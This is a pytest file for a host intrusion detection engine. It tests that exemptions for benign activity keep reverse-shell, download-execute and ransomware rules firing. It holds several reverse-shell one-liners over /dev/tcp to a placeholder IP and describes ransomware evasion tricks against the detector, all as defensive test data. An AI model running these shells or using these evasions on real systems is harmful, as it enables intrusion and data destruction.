"""Exemptions made for the false-alarm corpus (tests/e2e/test_false_alarms.py),
each pinned together with the attack it must keep catching."""

from __future__ import annotations

from typing import Any

import pytest

from bastion.detect.behavior import behavior_rules
from bastion.detect.engine import Engine, Finding, RuleContext
from bastion.events import Event, from_json
from bastion.proctable import ProcessTable
from support.trust import RecordedTrust

NS = 1_000_000_000


class World:
    def __init__(self) -> None:
        self.procs = ProcessTable()
        self.trust = RecordedTrust()
        self.engine = Engine(behavior_rules(trust=self.trust))
        self.ctx = RuleContext(self.procs)
        self.t = 1_767_225_600 * NS
        self.meta: dict[int, dict[str, Any]] = {}

    def _feed(self, obj: dict[str, Any]) -> list[Finding]:
        self.t += NS // 100
        sec, ns = divmod(self.t, NS)
        import time as _t
        obj["time"] = _t.strftime("%Y-%m-%dT%H:%M:%S", _t.gmtime(sec)) + f".{ns // 1000:06d}Z"
        ev: Event = from_json(obj)
        self.trust.learn(ev)
        self.procs.update(ev)
        return self.engine.evaluate(ev, self.ctx)

    def _proc(self, pid: int) -> dict[str, Any]:
        m = self.meta[pid]
        return {"pid": pid, "tid": pid, "ppid": m["ppid"], "uid": 0, "euid": 0, "gid": 0,
                "cgroup_id": 1, "comm": m["exe"].rsplit("/", 1)[-1][:15],
                "start_ns": pid * 1000, "exe": m["exe"]}

    def exec(self, pid: int, exe: str, argv: list[str], ppid: int = 1) -> list[Finding]:
        self.meta[pid] = {"ppid": ppid, "exe": exe}
        return self._feed({"type": "exec", **self._proc(pid), "filename": exe, "cwd": "/root",
                           "argv": argv, "exe_dev": 1, "exe_ino": pid, "exe_nlink": 1})

    def connect(self, pid: int, daddr: str, dport: int) -> list[Finding]:
        return self._feed({"type": "connect", **self._proc(pid), "family": "inet",
                           "protocol": "tcp", "saddr": "", "sport": 0, "daddr": daddr,
                           "dport": dport, "backlog": 0, "fd": -1})


def _rule(found: list[Finding], rule: str) -> list[Finding]:
    return [f for f in found if f.rule == rule]


@pytest.mark.parametrize("script", [
    "(exec 3<>/dev/tcp/127.0.0.1/9 ) 2>/dev/null || true",      # make bench's sigma workload
    "</dev/tcp/db/5432",                                         # wait-for-it style probe
    "exec 3<>/dev/tcp/example.org/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
])
def test_dev_tcp_client_is_reported_not_killed(script: str) -> None:
    w = World()
    got = _rule(w.exec(10, "/usr/bin/bash", ["bash", "-c", script]),
                "behavior.reverse_shell_command")
    assert got and all(f.severity == "medium" and f.action == "alert" for f in got)


@pytest.mark.parametrize("script", [
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "0<&196;exec 196<>/dev/tcp/203.0.113.9/80; sh <&196 >&196 2>&196",
    "exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | while read line; do $line 2>&5 >&5; done",
    "sh -i 5<> /dev/tcp/203.0.113.9/80 0<&5 1>&5 2>&5",
    "exec bash -i &>/dev/tcp/203.0.113.9/80 <&1",
    "/bin/sh 0</dev/tcp/203.0.113.9/80 1>&0 2>&0",
    "exec 3<>/dev/tcp/127.0.0.1/4444; cat <&3 | bash >&3 2>&3",
])
def test_dev_tcp_reverse_shells_stay_critical(script: str) -> None:
    w = World()
    got = _rule(w.exec(10, "/usr/bin/bash", ["bash", "-c", script]),
                "behavior.reverse_shell_command")
    assert got and got[0].severity == "critical" and got[0].action == "kill"


def test_shell_connect_loopback_medium_remote_critical() -> None:
    w = World()
    w.exec(10, "/usr/bin/bash", ["bash"])
    local = _rule(w.connect(10, "127.0.0.1", 9), "behavior.reverse_shell_command")
    assert local and local[0].severity == "medium" and local[0].action == "alert"
    remote = _rule(w.connect(10, "203.0.113.9", 4444), "behavior.reverse_shell_command")
    assert remote and remote[0].severity == "critical" and remote[0].action == "kill"


def _pip_then_run(w: World, installer_argv: list[str]) -> list[Finding]:
    out = w.exec(20, "/usr/bin/python3.11", installer_argv)
    out += w.connect(20, "151.101.0.223", 443)
    out += w._feed({"type": "open", **w._proc(20), "path": "/home/a/venv/bin/tool", "path2": "",
                    "flags": 0o1101, "mode": 0o644, "owner_uid": -1, "owner_gid": -1,
                    "dev": 1, "ino": 7})
    out += w.exec(21, "/home/a/venv/bin/tool", ["/home/a/venv/bin/tool"])
    return _rule(out, "behavior.download_execute")


@pytest.mark.parametrize("argv", [
    ["/home/a/venv/bin/python", "/home/a/venv/bin/pip", "install", "tool"],
    ["/home/a/venv/bin/python", "/home/a/venv/bin/pip3.11", "install", "tool"],
    ["python3", "-m", "pip", "install", "--user", "tool"],
    ["/usr/bin/python3", "/home/a/venv/lib/python3.11/site-packages/pip/__pip-runner__.py",
     "install", "--prefix", "/tmp/pip-build-env-x/overlay", "wheel"],
])
def test_pip_installed_console_script_is_not_a_download_execute(argv: list[str]) -> None:
    assert not _pip_then_run(World(), argv)


@pytest.mark.parametrize("argv", [
    ["python3", "fetch.py"],                                     # a python dropper
    ["python3", "/tmp/pip", "install"],                          # named pip, not in a bin/
    ["python3", "-c", "import pip"],
])
def test_other_python_downloaders_still_caught(argv: list[str]) -> None:
    got = _pip_then_run(World(), argv)
    assert got and got[0].severity == "high"


def _ransom_world(entropy: dict[str, float]) -> tuple[World, Any, list[str]]:
    from bastion.detect.behavior.rules import Probes, Ransomware

    calls: list[str] = []

    def probe(path: str) -> float | None:
        calls.append(path)
        return entropy.get(path, 4.0)

    w = World()
    rule = Ransomware(probes=Probes(entropy=probe))
    w.engine = Engine([rule])
    return w, rule, calls


def _write(w: World, pid: int, path: str) -> list[Finding]:
    return w._feed({"type": "open", **w._proc(pid), "path": path, "path2": "", "flags": 0o1101,
                    "mode": 0o644, "owner_uid": -1, "owner_gid": -1, "dev": 1, "ino": 7})


def test_ransomware_benign_burst_is_checked_sparingly() -> None:
    """tar x of 20 000 text files into /home: checked every count/4 files, not per file."""
    w, rule, calls = _ransom_world({})
    w.exec(30, "/usr/bin/tar", ["tar", "xzf", "src.tgz"])
    found = []
    for i in range(2000):
        found += _write(w, 30, f"/home/a/src/f{i}.c")
    assert not found
    # per check: a draw of 8, and the file of the event (the newest 8 only if it is high)
    assert len(calls) <= 9 * (2000 // (rule.count // 4) + 1)
    assert rule.stats()["shed"] == 0


def test_ransomware_after_a_benign_burst_still_stopped_quickly() -> None:
    enc = {f"/home/a/docs/e{i}.locked": 7.9 for i in range(200)}
    w, rule, _ = _ransom_world(enc)
    w.exec(31, "/usr/bin/python3.11", ["python3", "x.py"])
    for i in range(100):
        _write(w, 31, f"/home/a/src/f{i}.c")          # benign rewrite first
    n = 0
    for i in range(200):
        n += 1
        got = [f for f in _write(w, 31, f"/home/a/docs/e{i}.locked") if f.severity == "critical"]
        if got:
            break
    assert got and got[0].action == "kill-tree"
    assert n <= rule.count // 4 + 8, n


@pytest.mark.parametrize("argv", [
    ["python3", "/tmp/evil.py", "-m", "pip"],                    # -m pip as the script's argument
    ["python3", "-c", "import urllib.request", "-m", "pip"],     # ... or -c's
    ["python3", "/home/a/bin/pip", "install"],                   # any script named pip in a bin/
])
def test_pip_lookalikes_are_no_installer(argv: list[str]) -> None:
    """s17-compile item 1: package_installer took ``-m pip`` anywhere in argv and any
    ``bin/pip``, so provenance skipped these downloads."""
    got = _pip_then_run(World(), argv)
    assert got and got[0].severity == "high"


# ---- behavior.ransomware: what the sample is made of (s17-rfp) ----------------------------------
# A benign corpus run once got a critical would-kill-tree on a python process (the pip or
# unit-test step) with 1 high-entropy file among the 8 sampled: the sample was the last 8
# values, most of them files the tree had itself created and removed again (temp files,
# unpack dirs), so the probe read only one file -- a compressed one -- and "most of what
# could be read" was 1 of 1.

O_WRONLY, O_CREAT, O_TRUNC, O_EXCL = 0o1, 0o100, 0o1000, 0o200


def _ransom_live(existing: dict[str, float]) -> tuple[World, Any]:
    """The rule with a probe that knows only the files that exist now (``existing``:
    path -> bits/byte); any other path is gone (unknown), as the live probe sees it."""
    from bastion.detect.behavior.rules import Probes, Ransomware

    w = World()
    rule = Ransomware(probes=Probes(entropy=existing.get))
    w.engine = Engine([rule])
    return w, rule


def _open(w: World, pid: int, path: str, flags: int) -> list[Finding]:
    return w._feed({"type": "open", **w._proc(pid), "path": path, "path2": "", "flags": flags,
                    "mode": 0o644, "owner_uid": -1, "owner_gid": -1, "dev": 1, "ino": 7})


def _rename(w: World, pid: int, src: str, dst: str) -> list[Finding]:
    return w._feed({"type": "rename", **w._proc(pid), "path": src, "path2": dst, "flags": 0,
                    "mode": 0, "owner_uid": -1, "owner_gid": -1, "dev": 1, "ino": 8})


def _unlink(w: World, pid: int, path: str) -> list[Finding]:
    return w._feed({"type": "unlink", **w._proc(pid), "path": path, "path2": "", "flags": 0,
                    "mode": 0, "owner_uid": -1, "owner_gid": -1, "dev": 1, "ino": 9})


def _loud(found: list[Finding]) -> list[Finding]:
    return [f for f in found if f.rule == "behavior.ransomware"
            and f.severity in ("high", "critical")]


def test_ransomware_temp_files_and_one_compressed_file_is_no_ransomware() -> None:
    """pip unpacking into a temp dir, removing it, and caching one wheel (compressed:
    high entropy): the temp files are gone, the one left is high; 1 of 1 readable was
    'most of the sample'."""
    tmp = "/tmp/pytest-of-root/pytest-3/corpus"
    cache = f"{tmp}/pip-cache/http-v2/a/b/c/0123456789abcdef.body"
    w, _ = _ransom_live({cache: 7.98})
    w.exec(40, "/usr/bin/python3.11", ["python3", "-m", "pip", "install", "-q", "pyflakes"])
    found: list[Finding] = []
    for i in range(24):
        if i == 18:   # the wheel is cached while the unpack dir is being removed
            found += _open(w, 40, f"{cache}.tmp", O_WRONLY | O_CREAT | O_EXCL)
            found += _rename(w, 40, f"{cache}.tmp", cache)
        p = f"{tmp}/pip-unpack-x1/pyflakes/f{i}.py"
        found += _open(w, 40, p, O_WRONLY | O_CREAT | O_TRUNC)
        found += _unlink(w, 40, p)
    assert not _loud(found), [(f.severity, f.evidence) for f in found]


def test_ransomware_pyc_replaces_and_one_odd_extension_is_no_ransomware() -> None:
    """importlib writing .pyc files (temp + os.replace) with one rename to a five-letter
    extension among them: the 'uniform new extension' was that one rename."""
    tmp = "/tmp/pytest-of-root/pytest-3/unit-tmp"
    pycs = {f"{tmp}/pkg/__pycache__/m{i}.cpython-311.pyc": 5.1 for i in range(40)}
    w, _ = _ransom_live({**pycs, f"{tmp}/state.cache": 4.2})
    w.exec(41, "/usr/bin/python3.11", ["python3", "-m", "pytest", "-q"])
    found: list[Finding] = []
    found += _rename(w, 41, f"{tmp}/state.tmp", f"{tmp}/state.cache")
    for i, p in enumerate(pycs):
        found += _rename(w, 41, f"{p}.{1000 + i}", p)
    assert not _loud(found), [(f.severity, f.evidence) for f in found]


def _victims(n: int) -> list[str]:
    return [f"/home/alice/docs/report{i:03}.odt" for i in range(n)]


def _critical(found: list[Finding]) -> list[Finding]:
    return [f for f in found if f.rule == "behavior.ransomware" and f.severity == "critical"
            and f.action == "kill-tree"]


def test_ransomware_encrypt_to_new_name_and_unlink_still_critical() -> None:
    """read, write NAME.locked, unlink NAME (the shield test's encryptor)."""
    docs = _victims(60)
    w, _ = _ransom_live({f"{d}.locked": 7.95 for d in docs})
    w.exec(50, "/usr/bin/python3.11", ["python3", "enc.py"])
    found: list[Finding] = []
    for d in docs:
        found += _open(w, 50, f"{d}.locked", O_WRONLY | O_CREAT | O_TRUNC)
        found += _unlink(w, 50, d)
        if _critical(found):
            break
    assert _critical(found)


def test_ransomware_encrypt_in_place_with_rename_still_critical() -> None:
    """rewrite in place, then rename to a random per-victim-set extension."""
    docs = _victims(60)
    w, _ = _ransom_live({f"{d}.x7kq2": 7.95 for d in docs})
    w.exec(51, "/usr/bin/python3.11", ["python3", "enc.py"])
    found: list[Finding] = []
    for d in docs:
        found += _open(w, 51, d, O_WRONLY)
        found += _rename(w, 51, d, f"{d}.x7kq2")
        if _critical(found):
            break
    assert _critical(found)
    assert _critical(found)[0].evidence["entropy_high"] >= 5


def test_ransomware_encrypt_to_temp_and_replace_original_still_critical() -> None:
    """encrypt into a temp file, rename it over the original (the names never change)."""
    docs = _victims(60)
    w, _ = _ransom_live({d: 7.95 for d in docs})
    w.exec(52, "/usr/bin/python3.11", ["python3", "enc.py"])
    found: list[Finding] = []
    for d in docs:
        found += _open(w, 52, f"{d}.tmp", O_WRONLY | O_CREAT | O_TRUNC)
        found += _rename(w, 52, f"{d}.tmp", d)
        if _critical(found):
            break
    assert _critical(found)


def test_ransomware_intermittent_with_junk_temp_files_still_critical() -> None:
    """intermittent encryption in place (the head only, no rename), with a junk file
    created and removed between victims to fill the sample with unreadable paths."""
    docs = _victims(60)
    w, _ = _ransom_live({d: 7.9 for d in docs})
    w.exec(53, "/usr/bin/python3.11", ["python3", "enc.py"])
    found: list[Finding] = []
    for i, d in enumerate(docs):
        found += _open(w, 53, d, O_WRONLY)
        j = f"/home/alice/.cache/j{i}"
        found += _open(w, 53, j, O_WRONLY | O_CREAT | O_TRUNC)
        found += _unlink(w, 53, j)
        if _critical(found):
            break
    assert _critical(found)


def test_ransomware_unit_tests_sqlite_temps_and_hypothesis_cache_is_no_ransomware() -> None:
    """The corpus's unit-test step as recorded (s17-rfp): pytest's basetemp 'current'
    links and each test's SQLite -journal/-wal/-shm unlinked, and hypothesis writing its
    gzip'd unicode table (temp + rename) into the repo on a fresh checkout.  When the
    .gz fell among the last 8 values, 7 were gone: 1 of 1 readable, critical."""
    ut = "/tmp/pytest-of-root/pytest-76/t0/corpus/unit-tmp"
    gz = "/work/wt/x/.hypothesis/unicode_data/14.0.0/codec-v2-utf-8.json.gz"
    w, _ = _ransom_live({gz: 7.99})
    w.exec(42, "/usr/bin/python3.11", ["python", "-m", "pytest", "-q", "tests/unit"])
    found: list[Finding] = []
    for i in range(12):
        if i == 9:   # the 37th value: among the last 8 when the count (40) is reached
            found += _rename(w, 42, "/work/wt/x/.hypothesis/tmp/tmpwgg1ab0g", gz)
        found += _unlink(w, 42, f"{ut}/test_{i}current")
        for suffix in ("journal", "shm", "wal"):
            found += _unlink(w, 42, f"{ut}/test_{i}0/data/bastion.db-{suffix}")
    assert not _loud(found), [(f.severity, f.evidence) for f in found]


def test_ransomware_ciphertext_parked_on_a_removed_name_still_critical() -> None:
    """s17-rfp review (poc 2): per victim d, write decoy G, remove it, encrypt d in
    place, mv d G -- every ciphertext lands on a name the tree removed before.  An
    unordered "ever removed" set excluded them all (silent); the replay keeps them."""
    docs = _victims(200)
    ent: dict[str, float] = {}
    w, _ = _ransom_live(ent)
    w.exec(60, "/usr/bin/python3.11", ["python3", "enc.py"])
    found: list[Finding] = []
    for i, d in enumerate(docs):
        g = f"{d}.q{i:03}"
        ent[g] = 7.95
        found += _open(w, 60, g, 0o1 | 0o100 | 0o1000)
        found += _unlink(w, 60, g) if i % 2 else _rename(w, 60, g, f"{d}.q{i:03}.a")
        found += _open(w, 60, d, 0o1)
        found += _rename(w, 60, d, g)
    assert _critical(found)


def test_ransomware_medium_first_does_not_buy_a_window_unchecked() -> None:
    """s17-rfp review (poc 3): every other one of the first 40 writes unreadable (FIFOs):
    the medium "mass rewrite" started the cooldown and cleared the state, so 360 more
    encrypted files went unjudged.  A medium hit keeps the tree judged: critical."""
    docs = _victims(400)
    ent: dict[str, float] = {}
    w, _ = _ransom_live(ent)
    w.exec(60, "/usr/bin/python3.11", ["python3", "enc.py"])
    found: list[Finding] = []
    for i, d in enumerate(docs):
        if i >= 40 or i % 2 == 0:
            ent[d] = 7.95
        found += _open(w, 60, d, 0o1)
    medium = [f for f in found if f.rule == "behavior.ransomware" and f.severity == "medium"]
    assert len(medium) <= 1
    assert _critical(found)


def test_ransomware_unreadable_files_interleaved_do_not_block_critical() -> None:
    """s17-rfp review 3 (poc 1, half-unknown): every other file the tree writes is
    unreadable to the probe (a FIFO opened O_RDWR, a truncated or undecodable name):
    4 of 8 unknown held the verdict below "most of 8".  The sample is now the newest
    readable files among up to 24 candidates: 8 of 8 high, critical."""
    docs = _victims(60)
    w, _ = _ransom_live({d: 7.95 for i, d in enumerate(docs) if i % 2 == 0})
    w.exec(60, "/usr/bin/python3.11", ["python3", "enc.py"])
    found: list[Finding] = []
    for d in docs:
        found += _open(w, 60, d, 0o1)
    assert _critical(found)
